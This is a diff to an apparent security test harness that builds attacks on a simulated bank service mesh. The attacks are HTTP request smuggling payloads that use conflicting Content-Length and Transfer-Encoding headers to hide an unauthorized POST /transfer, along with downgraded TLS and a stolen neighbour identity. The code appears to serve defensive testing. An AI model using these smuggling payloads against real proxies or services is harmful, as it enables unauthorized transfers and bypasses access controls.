@@ -1,11 +1,13 @@
 """Attacks on the wire: no encryption, an old one, other ports than the service's, bytes that two programs read differently."""
 
 import ssl
+import uuid
+from dataclasses import replace
 from typing import TYPE_CHECKING, Final
 
 from sandbox.proof.attacks.ground import NEIGHBOUR, asked, good_token, host, stolen, to_callee, to_gateway
-from sandbox.proof.attacks.mesh import OLD_TLS, OLD_TLS_OUTSIDE, PLAIN_TEXT
-from sandbox.proof.attacks.raw import Handshake, request
+from sandbox.proof.attacks.mesh import OLD_TLS, OLD_TLS_OUTSIDE, PLAIN_TEXT, TWO_ENDS
+from sandbox.proof.attacks.raw import Handshake, last, request
 from sandbox.proof.attacks.registry import Making, Planned, Sent
 from sandbox.proof.world import World
 
@@ -35,18 +37,26 @@ def _old_version_outside(world: World, tokens: "Tokens") -> Sent:
     return to_gateway(world, "POST", "/bank-b/transfer", token, tls=shaken)
 
 
-def _two_ways(name: str, headers: tuple[tuple[str, str], ...], body: str) -> Making:
-    """A request whose end two programs see in two places; behind it another one is hidden."""
+def _two_ways(name: str, *headers: tuple[str, str]) -> Making:
+    """A request whose end two programs see in two places; behind it another one is hidden, which its caller may not make."""
 
     def make(world: World, tokens: "Tokens") -> Sent:
-        token = ("Authorization", f"Bearer {good_token(world, tokens)}")
-        whole = request("POST", "/authorize", [("Host", host(world, "bank-b/trans-ms")), token, *headers], body)
-        return to_callee(world, whole, Handshake(shown=stolen(world, NEIGHBOUR)), note=name)
+        number = f"attack-{uuid.uuid4()}"
+        hidden = f"POST /transfer HTTP/1.1\r\nHost: x\r\nX-Request-Id: {number}\r\nConnection: close\r\n\r\n"
+        kept = [
+            ("Host", host(world, "bank-b/trans-ms")),
+            ("Authorization", f"Bearer {good_token(world, tokens)}"),
+            ("Connection", "keep-alive"),
+        ]
+        body = f"0\r\n\r\n{hidden}"
+        lengths = [(key, value.replace("{all}", str(len(body)))) for key, value in headers]
+        sent = to_callee(
+            world, request("POST", "/authorize", [*kept, *lengths], body), Handshake(shown=stolen(world, NEIGHBOUR)), note=name
+        )
+        return replace(sent, answer=last(sent.answer), request=number)
 
     return make
 
-
-_HIDDEN: Final = "0\r\n\r\nPOST /transfer HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n"
 
 ATTACKS: Final = (
     Planned(
@@ -103,10 +113,9 @@ ATTACKS: Final = (
         family="wire",
         techniques=("T1190",),
         expected="proxy",
-        make=_two_ways(
-            "Content-Length and Transfer-Encoding", (("Content-Length", "4"), ("Transfer-Encoding", "chunked")), _HIDDEN
-        ),
-        unswitchable=_UNREAD,
+        make=_two_ways("Content-Length and Transfer-Encoding", ("Content-Length", "4"), ("Transfer-Encoding", "chunked")),
+        control="content_length_and_chunked",
+        switch=TWO_ENDS,
     ),
     Planned(
         key="wire-two-lengths",
@@ -114,7 +123,7 @@ ATTACKS: Final = (
         family="wire",
         techniques=("T1190",),
         expected="proxy",
-        make=_two_ways("two Content-Length", (("Content-Length", "0"), ("Content-Length", str(len(_HIDDEN)))), _HIDDEN),
+        make=_two_ways("two Content-Length", ("Content-Length", "0"), ("Content-Length", "{all}")),
         unswitchable=_UNREAD,
     ),
     Planned(
@@ -123,7 +132,7 @@ ATTACKS: Final = (
         family="wire",
         techniques=("T1190",),
         expected="proxy",
-        make=_two_ways("Transfer-Encoding: xchunked", (("Content-Length", "4"), ("Transfer-Encoding", "xchunked")), _HIDDEN),
+        make=_two_ways("Transfer-Encoding: xchunked", ("Content-Length", "4"), ("Transfer-Encoding", "xchunked")),
         unswitchable=_UNREAD,
     ),
     Planned(
@@ -132,7 +141,7 @@ ATTACKS: Final = (
         family="wire",
         techniques=("T1190",),
         expected="proxy",
-        make=_two_ways("a space before the colon", (("Transfer-Encoding ", "chunked"), ("Content-Length", "4")), _HIDDEN),
+        make=_two_ways("a space before the colon", ("Transfer-Encoding ", "chunked"), ("Content-Length", "4")),
         unswitchable=_UNREAD,
     ),
 )
